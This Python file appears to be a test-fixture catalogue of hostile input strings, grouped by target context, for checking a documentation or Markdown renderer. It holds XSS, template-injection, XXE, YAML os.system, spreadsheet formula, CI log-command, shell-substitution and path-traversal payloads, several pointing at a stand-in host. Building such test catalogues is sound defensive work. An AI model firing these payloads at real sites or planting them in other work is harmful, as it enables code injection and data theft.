"""Texts that would run, break out or mislead somewhere, by the place that they aim at.

`alert(1)` stands for whatever they would do. The folder named in ETALASE_HOSTILE may hold more: JSON files with a list
`payloads`, as the public collections of such texts are kept.
"""

import json
import os
from pathlib import Path

HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//jahat.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:parent.alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,x>",
    "<base href=//jahat.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//jahat.example/a.css>",
    "<style>*{background:url(//jahat.example)}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title></title><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&lt<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='width:expression(alert(1))'>x",
    "<x contenteditable onblur=alert(1)>x</x>",
)
ATTRIBUTE = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    '\\" onmouseover=alert(1) \\"',
    "x' style='position:fixed;inset:0' onmouseover='alert(1)",
)
ADDRESS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//jahat.example/x",
    "https://bank.example@jahat.example/",
    "https://jahat.example\\@bank.example/",
    'https://x.example/"onmouseover=alert(1)',
    "https://x.example/'><script>alert(1)</script>",
    "file:///etc/passwd",
)
MARKDOWN = (
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt&colon;alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "[klik](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[klik](//jahat.example)",
    "![x](https://jahat.example/lacak.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "{: onclick=alert(1) }",
    "[x]{onclick=alert(1)}",
    "*[HTML]: x",
    '--8<-- "mkdocs.yml"',
    "```{.x onclick=alert(1)}\nx\n```",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[TOC]",
    "/// html | script\nalert(1)\n///",
    "<div markdown=1><script>alert(1)</script></div>",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "wzxhzdk:0 klzzwxh:0000",
)
TEMPLATE = (
    "{{ config }}",
    "{{ 7 * 7 }}{% raw %}",
    "{% include 'mkdocs.yml' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# x #}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "{n} {0} {found.__class__} %s %(x)s",
)
FRONT_MATTER = (
    "---\ntitle: lain\n---",
    "x\ntemplate: ../../404.html",
    "!ENV PATH",
    "!!python/object/apply:os.system [id]",
    "x: y: z",
    "# x",
    "&a *a",
)
SHEETS_AND_CALENDARS = (
    '=HYPERLINK("//jahat.example","x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:lain",
    'a,b;c\\n"d"',
)
LOGS = (
    "::error file=x::y",
    "x\n::add-mask::y",
    "x%0A::set-env name=A::b",
    "##[command]x",
    "$(id) `id` ; id | id && id",
    "../../../etc/passwd",
)
ORDINARY = (
    'Jum\'at, "Sabtu" & <Minggu>: 5 < 6 > 4; 100% @kota #1 {a} [b] (c) *d* _e_ ~f~ `g` \\h | i = j + k',
    "Rp1.000,- s.d. Rp2.000,- (dua ribu) – “kutipan” ‘tunggal’ … é ñ ü ꦗꦮ 漢字 🙂",
    "a &amp; b &lt; c &nbsp; d &#39;",
    "{{ sampai jumpa }} {% persen %}",
)


def _more() -> tuple[str, ...]:
    folder = os.environ.get("ETALASE_HOSTILE")
    files = sorted(Path(folder).glob("*.json")) if folder else []
    return tuple(text for file in files for text in json.loads(file.read_text("utf-8"))["payloads"])


PAYLOADS = (
    *HTML,
    *ATTRIBUTE,
    *ADDRESS,
    *MARKDOWN,
    *TEMPLATE,
    *FRONT_MATTER,
    *SHEETS_AND_CALENDARS,
    *LOGS,
    *ORDINARY,
    *_more(),
)
